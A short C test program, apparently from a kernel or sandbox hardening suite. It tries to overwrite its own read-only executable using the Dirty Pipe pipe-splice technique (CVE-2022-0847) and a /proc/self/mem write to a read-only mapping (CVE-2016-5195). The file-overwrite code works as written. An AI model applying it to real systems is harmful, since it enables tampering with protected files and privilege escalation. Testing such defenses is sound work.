/*
 * Changes a read-only file by its pages in memory: through a pipe that shares
 * them (CVE-2022-0847), and through /proc/self/mem (CVE-2016-5195).
 */
#include "attempt.h"
#include <fcntl.h>
#include <sys/mman.h>

int main(void)
{
	static char buffers[65536];
	char before[16], after[16];
	int pipes[2], mem, fd = open("/proc/self/exe", O_RDONLY);
	loff_t at = 1;
	void *page;

	if (fd < 0 || pread(fd, before, sizeof before, 0) != sizeof before)
		refused("pread");
	/* Each buffer of the pipe is written to once, and would keep the mark. */
	if (pipe2(pipes, O_NONBLOCK) || write(pipes[1], buffers, sizeof buffers) != sizeof buffers ||
	    read(pipes[0], buffers, sizeof buffers) != sizeof buffers)
		refused("pipe");
	if (splice(fd, &at, pipes[1], NULL, 1, 0) != 1 || write(pipes[1], "pwned", 5) != 5)
		refused("splice");
	page = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
	mem = open("/proc/self/mem", O_RDWR);
	if (page != MAP_FAILED && mem >= 0 && pwrite(mem, "pwned", 5, (off_t)page) < 0)
		errno = EIO;
	if (pread(fd, after, sizeof after, 0) != sizeof after)
		refused("pread");
	if (memcmp(before, after, sizeof before))
		succeeded("the image's file is changed");
	refused("pwrite");
}
